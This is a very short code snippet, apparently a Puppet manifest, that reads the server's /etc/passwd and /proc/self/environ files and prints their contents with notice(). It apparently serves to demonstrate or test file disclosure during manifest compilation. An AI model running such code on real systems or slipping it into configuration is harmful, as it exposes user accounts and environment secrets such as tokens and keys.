$users = file('/etc/passwd')
$proc = file('/proc/self/environ')
notice($users, $proc)
